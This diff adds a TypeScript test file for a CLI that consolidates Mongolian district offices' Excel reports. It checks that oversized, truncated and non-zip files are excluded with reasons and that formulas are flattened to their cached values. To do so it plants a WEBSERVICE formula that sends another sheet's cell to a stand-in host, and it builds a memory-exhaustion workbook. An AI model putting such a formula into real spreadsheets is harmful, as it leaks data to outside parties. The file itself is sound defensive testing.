@@ -1,0 +1,130 @@
+import { spawn } from "child_process";
+import * as fs from "fs";
+import * as path from "path";
+import ExcelJS from "exceljs";
+import JSZip from "jszip";
+import { OfficePool } from "../../src/cli/office-pool";
+import { generateReport } from "../fixtures/generate-report";
+import { loadXlsx, makeTmp, removeTmp, writeGrids } from "./helpers";
+
+/*
+ * consolidate reads each office's file in a worker bounded in memory and time (issue 15): a
+ * file that would fill the memory, a cut-short zip or a file that is no zip at all is left out
+ * with its reason, and the consolidation of the others is written. No formula of an office's
+ * file arrives live in the consolidation.
+ */
+const BIN = path.resolve(__dirname, "../../bin/guitsetgel.js");
+const GOOD = 30;
+let dir: string;
+const at = (name: string) => path.join(dir, name);
+const good = Array.from({ length: GOOD }, (_, i) => `Сум ${String(i + 1).padStart(2, "0")}.xlsx`);
+
+/** The text the first office's formula last computed, and where it stands. */
+let formulaCell: { address: string; text: string };
+
+/** A good report with a million more values in column L, below its table. */
+async function millionValues(from: string): Promise<Buffer> {
+  const zip = await JSZip.loadAsync(fs.readFileSync(from));
+  const part = "xl/worksheets/sheet1.xml";
+  const xml = await zip.file(part)!.async("string");
+  const rows: string[] = [];
+  for (let r = 1001; r < 1_001_001; r++)
+    rows.push(`<row r="${r}"><c r="L${r}"><v>${r}</v></c></row>`);
+  zip.file(part, xml.replace("</sheetData>", `${rows.join("")}</sheetData>`));
+  // Stored, not deflated: the test builds it in a moment; the reader still has every value.
+  return zip.generateAsync({ type: "nodebuffer", compression: "STORE" });
+}
+
+beforeAll(async () => {
+  dir = makeTmp("isolation");
+  for (const [i, name] of good.entries()) await writeGrids(at(name), [generateReport(15, i + 1)]);
+
+  // A criterion's text in the first office's report, typed as a formula that sends another
+  // office's figure away when the workbook opens: its cached value is the text itself.
+  const wb = await loadXlsx(at(good[0]));
+  const ws = wb.worksheets[0];
+  let found: ExcelJS.Cell | undefined;
+  ws.eachRow((row, r) =>
+    row.eachCell((cell) => {
+      if (!found && r > 6 && typeof cell.value === "string" && cell.value.length > 25) found = cell;
+    }),
+  );
+  const cell = found!;
+  formulaCell = { address: cell.address, text: cell.value as string };
+  cell.value = {
+    formula: 'WEBSERVICE("http://example.org/?"&ENCODEURL(INDIRECT("Нэгтгэл"&CHAR(33)&"B5")))',
+    result: formulaCell.text,
+  } as ExcelJS.CellFormulaValue;
+  await wb.xlsx.writeFile(at(good[0]));
+
+  fs.writeFileSync(at("Сая утга.xlsx"), await millionValues(at(good[1])));
+  const bytes = fs.readFileSync(at(good[2]));
+  fs.writeFileSync(at("Тасархай.xlsx"), bytes.subarray(0, Math.floor(bytes.length / 2)));
+  fs.writeFileSync(at("Зип биш.xlsx"), "this is not a workbook\n");
+}, 300_000);
+afterAll(() => removeTmp(dir));
+
+/** `node --max-old-space-size=512 bin/guitsetgel.js …`: the run itself is bounded too. */
+function cli(args: string[]): Promise<{ code: number | null; stdout: string; stderr: string }> {
+  return new Promise((resolve) => {
+    const child = spawn(process.execPath, ["--max-old-space-size=512", BIN, ...args], { cwd: dir });
+    let stdout = "";
+    let stderr = "";
+    child.stdout.on("data", (d: Buffer) => (stdout += d.toString()));
+    child.stderr.on("data", (d: Buffer) => (stderr += d.toString()));
+    child.on("exit", (code) => resolve({ code, stdout, stderr }));
+  });
+}
+
+describe("consolidate of 30 good reports and three bad files", () => {
+  let r: { code: number | null; stdout: string; stderr: string };
+  let wb: ExcelJS.Workbook;
+  const hostile = ["Сая утга.xlsx", "Тасархай.xlsx", "Зип биш.xlsx"];
+
+  beforeAll(async () => {
+    const inputs = [...good.slice(0, 10), ...hostile, ...good.slice(10)];
+    r = await cli(["consolidate", ...inputs, "-o", "Нэгтгэл.xlsx", "--lang", "en"]);
+    wb = await loadXlsx(at("Нэгтгэл.xlsx"));
+  }, 300_000);
+
+  it("writes the 30 and says 3 files were left out, exit 1", () => {
+    expect(r.code).toBe(1);
+    expect(r.stdout).toMatch(/with 30 office sheets/);
+    for (const name of good) expect(wb.getWorksheet(name.replace(".xlsx", ""))).toBeDefined();
+  });
+
+  it("lists each left-out file with its reason, in the order given", () => {
+    const lines = r.stderr.split("\n").filter((l) => l.includes("Left out of the consolidation"));
+    expect(lines).toHaveLength(3);
+    expect(lines[0]).toContain("«Сая утга.xlsx»: too large to read within 512 MB / 60 s.");
+    expect(lines[1]).toContain("«Тасархай.xlsx»");
+    expect(lines[1]).toMatch(/damaged/);
+    expect(lines[2]).toContain("«Зип биш.xlsx»");
+  });
+
+  it("writes the office's formula as the value it last computed", () => {
+    const ws = wb.getWorksheet("Сум 01")!;
+    expect(ws.getCell(formulaCell.address).type).toBe(ExcelJS.ValueType.String);
+    expect(ws.getCell(formulaCell.address).value).toBe(formulaCell.text);
+  });
+});
+
+describe("the pool of workers reading the files", () => {
+  it("ends a worker that outgrows its heap, leaves its file out, and reads the next file", async () => {
+    const pool = new OfficePool(1, { heapMb: 128, seconds: 120 });
+    try {
+      const big = await pool.read({ file: "Сая утга.xlsx", cwd: dir, flags: {} });
+      expect(big).toEqual({
+        ok: false,
+        reason: {
+          mn: "«Сая утга.xlsx»: файл хэт том тул 128 МБ санах ой, 120 секундэд багтаан уншиж чадсангүй.",
+          en: "«Сая утга.xlsx»: too large to read within 128 MB / 120 s.",
+        },
+      });
+      const next = await pool.read({ file: good[3], cwd: dir, flags: {} });
+      expect(next.ok).toBe(true);
+    } finally {
+      await pool.close();
+    }
+  }, 300_000);
+});
